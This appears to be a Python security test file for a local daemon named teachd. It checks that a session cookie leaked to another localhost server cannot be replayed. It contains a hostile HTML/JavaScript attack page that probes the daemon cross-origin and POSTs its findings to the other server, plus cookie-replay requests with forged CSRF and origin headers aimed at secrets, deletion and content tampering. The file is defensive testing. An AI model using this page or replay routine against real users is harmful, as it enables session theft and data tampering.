"""Row 8: the browser sends a 127.0.0.1 cookie to every port of that host,
so any other local server alice's browser visits receives her teachd
session cookie. Here that server exists for real, alice's real Chromium
visits it, and it replays everything it received — with every header it
likes — to the daemon: nothing it gets back holds data, nothing changes.
What binds the session to the daemon's origin is the page key in the
origin's own localStorage (see teachd.server.security)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from tests.security.web_surface import SKILL, VICTIM, chromium, cookie_only, daemon, me, other_server
from tests.test_server import Server, browser_login

ATTACK_PAGE = """<!doctype html><title>cat pictures</title><script>
(async () => {
  const daemon = %(daemon)r, out = {};
  // What a page of another port can try from alice's browser itself:
  for (const [name, init] of [['cors', {credentials: 'include'}], ['no-cors', {credentials: 'include', mode: 'no-cors'}]]) {
    try { const r = await fetch(daemon + '/api/skills', init); out[name] = {type: r.type, status: r.status, text: await r.text()}; }
    catch (err) { out[name] = {error: String(err)}; }
  }
  try { out.storage = localStorage.getItem('teachd-key'); } catch (err) { out.storage = String(err); }
  const frame = document.createElement('iframe'); frame.src = daemon + '/skills'; document.body.append(frame);
  await new Promise((ok) => setTimeout(ok, 800));
  try { out.frame = frame.contentDocument ? frame.contentDocument.body.innerText : 'no document'; }
  catch (err) { out.frame = 'blocked: ' + err.name; }
  await fetch('/report', {method: 'POST', body: JSON.stringify(out)});
})();
</script><body><img src="%(daemon)s/api/skills"></body>"""


def _visit(server: Server, tmp_path: Path) -> tuple[list[str], Any, list[dict[str, str]]]:
    """alice logs in, then visits the other server's page: what it got."""
    with other_server() as other, chromium() as browser:
        other.pages["/"] = ATTACK_PAGE % {"daemon": server.url}
        page = browser.new_page()
        browser_login(page, server.login_url)
        assert me(page) == "alice"
        page.goto(other.url + "/")
        for _ in range(100):
            if other.reports:
                break
            page.wait_for_timeout(100)
        page.goto(server.url + f"/skills/{SKILL}")  # alice's own tab still works, with the key
        assert page.get_by_role("heading", name=SKILL).first.is_visible() and me(page) == "alice"
        return other.cookies(), other.reports[0], [s.headers for s in other.seen]


def test_another_local_server_gets_the_cookie_but_its_replay_opens_and_changes_nothing(tmp_path: Path) -> None:
    with daemon(tmp_path) as server:
        cookies, report, all_headers = _visit(server, tmp_path)
        assert any("teachd_session" in c for c in cookies), cookies  # the leak is real: it got the cookie
        # alice's browser itself could not read the daemon for that page either.
        assert "error" in report["cors"] and report["no-cors"].get("text", "") == ""
        assert report["storage"] is None and not str(report["frame"]).count(SKILL)

        replay_headers: list[dict[str, str]] = []
        for h in all_headers:
            if "cookie" not in h:
                continue
            forged = {k: v for k, v in h.items() if k not in ("host", "content-length")}
            replay_headers += [
                forged,
                {**forged, "Origin": server.url, "Referer": server.url + "/skills", "Sec-Fetch-Site": "same-origin",
                 "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"},
                {**forged, "X-CSRF-Token": ""}, {**forged, "X-CSRF-Token": "null"},
                {**forged, "X-CSRF-Token": h["cookie"].split("=", 1)[1].split(";")[0]},  # the cookie as the key
                {**forged, "X-Requested-With": "XMLHttpRequest", "X-Teachd-Nonce": "A" * 24},
            ]
        assert replay_headers
        for headers in replay_headers:
            with cookie_only(server, headers.pop("cookie"), **headers) as thief:
                for path in ("/api/skills", f"/api/skills/{SKILL}", f"/api/skills/{SKILL}/export?format=md",
                             "/api/runs", "/api/people", "/openapi.json", "/api/secrets", "/api/approvals"):
                    r = thief.get(path)
                    assert r.status_code in (401, 403) and SKILL not in r.text, (path, headers, r.status_code)
                for path in ("/skills", f"/skills/{SKILL}", "/approvals", "/runs", "/"):
                    r = thief.get(path)  # a navigation gets the data-free shell at most
                    assert SKILL not in r.text and VICTIM not in r.text and "alice" not in r.text, path
                    assert r.status_code in (200, 303, 403)
                for method, path, body in (("PUT", f"/api/skills/{SKILL}/enabled", {"on": False}),
                                           ("DELETE", f"/api/skills/{VICTIM}", None),
                                           ("PUT", f"/api/skills/{SKILL}/content",
                                            {"description": "owned", "instructions": "owned"}),
                                           ("POST", "/logout", None)):
                    r = thief.request(method, path, json=body)
                    assert r.status_code in (401, 403), (method, path, r.status_code)
        with server.api() as api:  # where the attack would land: nothing changed
            skill = api.get(f"/api/skills/{SKILL}").json()
            assert skill["enabled"] is True and skill["version"] == 1 and "owned" not in skill["description"]
            assert api.get(f"/api/skills/{VICTIM}").status_code == 200


def test_the_cookie_is_named_for_its_daemon_so_two_daemons_on_one_host_keep_both_logins(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    with daemon(tmp_path / "a") as first, daemon(tmp_path / "b", owner="carol") as second, chromium() as browser:
        context = browser.new_context()
        page = context.new_page()
        browser_login(page, first.login_url)
        other = context.new_page()
        browser_login(other, second.login_url)
        assert me(page) == "alice" and me(other) == "carol"
        page.reload()
        assert me(page) == "alice"  # the second login did not overwrite the first cookie
        names = sorted(c["name"] for c in page.context.cookies())
        assert names == sorted([f"teachd_session_{first.url.rsplit(':', 1)[1]}",
                                f"teachd_session_{second.url.rsplit(':', 1)[1]}"])
        # Each cookie went to the other daemon too (cookies are not port-scoped): it opens nothing there.
        for cookie in page.context.cookies():
            for s in (first, second):
                with cookie_only(s, f"{cookie['name']}={cookie['value']}") as thief:
                    assert thief.get("/api/skills").status_code in (401, 403)
